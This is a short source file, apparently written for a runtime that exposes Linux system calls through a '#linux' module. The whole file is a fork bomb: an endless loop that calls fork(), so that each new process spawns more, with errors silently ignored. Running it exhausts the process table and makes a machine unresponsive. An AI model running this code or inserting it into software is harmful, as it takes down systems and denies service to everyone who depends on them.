// Makes processes, each of which makes processes.
import * as linux from '#linux';

for (;;) {
  try {
    linux.fork();
  } catch {
    // No more for now.
  }
}
